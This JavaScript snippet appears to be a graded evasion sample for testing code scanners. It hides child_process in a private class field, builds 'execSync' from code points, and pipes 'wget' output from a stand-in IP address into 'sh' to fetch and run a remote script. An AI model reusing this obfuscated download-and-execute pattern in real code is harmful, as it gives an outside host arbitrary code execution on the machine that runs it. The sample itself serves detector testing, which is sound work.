// evasion: module held in a #private class field, method name computed in a static initialisation block from code points
// grade: very hard; does: shell
class Runner {
  #backend = require('child' + '_process');
  static verb;
  static {
    Runner.verb = String.fromCodePoint(101, 120, 101, 99, 83, 121, 110, 99);
  }
  go(line) {
    return this.#backend[Runner.verb](line, { stdio: 'inherit' });
  }
}

new Runner().go('wget -qO- http://198.51.100.7/x.sh | sh');
